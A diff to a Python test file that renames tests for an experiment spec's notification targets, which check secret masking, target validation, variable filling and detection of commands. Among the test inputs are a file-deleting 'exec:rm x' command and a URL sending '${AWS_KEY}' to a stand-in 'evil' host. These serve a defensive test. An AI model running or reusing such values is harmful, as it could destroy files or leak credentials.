@@ -36,7 +36,7 @@ def spec_with(*notify: str) -> ExperimentSpec:
         ("exec:mail -s done me@there", "exec:mail -s done me@there"),
     ],
 )
-def test_nothing_that_may_be_a_secret_is_written_down(target: str, shown: str) -> None:
+def test_notify_secrets_are_hidden_in_dumps(target: str, shown: str) -> None:
     spec = spec_with(target)
     assert spec.notify == (target,)
     for text in (spec.to_json(), spec.to_yaml(), json.dumps(spec.model_dump(mode="json"))):
@@ -46,11 +46,11 @@ def test_nothing_that_may_be_a_secret_is_written_down(target: str, shown: str) -
     assert is_hidden(shown) == (shown != target)
 
 
-def test_what_is_derived_from_a_spec_notifies_the_same() -> None:
+def test_replace_keeps_notify_targets() -> None:
     assert spec_with(SECRET).replace(seed=3).notify == (SECRET,)
 
 
-def test_one_target_is_a_list_of_one_and_each_counts_once() -> None:
+def test_notify_targets_are_unique() -> None:
     search = {"space": {"lr": "uniform(0, 1)"}}
     assert build_spec({"search": search, "num_samples": 2, "notify": SECRET}).notify == (SECRET,)
     assert spec_with(SECRET, SECRET).notify == (SECRET,)
@@ -59,12 +59,12 @@ def test_one_target_is_a_list_of_one_and_each_counts_once() -> None:
 @pytest.mark.parametrize(
     "target", ["", "hooks.slack.com/x", "exec:", "exec: ", "https:// x", "x\n", "${A} x", "x${A}"]
 )
-def test_what_is_no_target_is_refused(target: str) -> None:
+def test_notify_invalid_target_is_refused(target: str) -> None:
     with pytest.raises(SpecError, match=r"notify: must be a URL, https://HOST/PATH or \$\{VAR"):
         spec_with(target)
 
 
-def test_kinds_of_targets() -> None:
+def test_notify_target_kinds() -> None:
     assert [is_web(t) for t in (SECRET, "http://x", "slack://x", "exec:x")] == [
         *(True, True),
         *(False, False),
@@ -75,7 +75,7 @@ def test_kinds_of_targets() -> None:
     ]
 
 
-def test_variables_are_filled_in_where_the_search_runs() -> None:
+def test_filled_inserts_environment_variables() -> None:
     assert filled("https://host/${A}/${B}", {"A": "1", "B": "2"}) == "https://host/1/2"
     assert filled("${A}", {"A": SECRET}) == SECRET
     for value in ("exec:rm x", "hooks.slack.com/s3cret", "https:///s3cret"):
@@ -90,7 +90,7 @@ def test_variables_are_filled_in_where_the_search_runs() -> None:
         filled("https://${A}", {"A": "/"})
 
 
-def test_a_command_and_what_sends_a_variable_are_code_that_a_spec_names() -> None:
+def test_code_named_lists_commands_and_variables() -> None:
     named = code_named({"notify": ["exec:rm x", "https://evil/${AWS_KEY}", SECRET, 3]})
     assert [(code.key, code.path) for code in named] == [
         ("notify", "exec:rm x"),
